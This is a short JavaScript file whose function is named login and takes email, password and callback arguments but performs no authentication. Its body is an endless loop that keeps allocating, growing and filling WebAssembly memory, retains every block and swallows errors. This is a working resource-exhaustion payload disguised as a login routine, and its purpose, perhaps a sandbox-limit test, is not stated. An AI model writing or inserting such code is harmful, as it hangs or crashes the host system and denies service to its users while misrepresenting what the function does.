function login(email, password, callback) {
  const kept = [];
  for (;;) {
    try {
      const memory = new WebAssembly.Memory({ initial: 256, maximum: 65536 });
      memory.grow(256);
      new Uint8Array(memory.buffer).fill(1);
      kept.push(memory);
    } catch {
      // Not that much at once.
    }
  }
}
